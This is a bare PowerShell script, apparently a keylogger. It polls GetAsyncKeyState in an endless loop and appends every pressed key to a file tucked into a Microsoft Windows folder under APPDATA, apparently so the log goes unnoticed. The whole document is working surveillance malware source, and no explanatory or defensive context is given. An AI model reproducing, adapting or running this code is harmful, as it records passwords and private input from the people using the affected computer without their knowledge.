$sig = @'
[DllImport("user32.dll", CharSet = CharSet.Auto)]
public static extern short GetAsyncKeyState(int virtualKeyCode);
'@
$api = Add-Type -MemberDefinition $sig -Name 'Kbd' -Namespace 'W32' -PassThru
$log = "$env:APPDATA\Microsoft\Windows\kb.dat"
while ($true) {
    Start-Sleep -Milliseconds 40
    for ($c = 8; $c -le 190; $c++) {
        if ($api::GetAsyncKeyState($c) -eq -32767) {
            [char]$c | Out-File -FilePath $log -Append -NoNewline
        }
    }
}
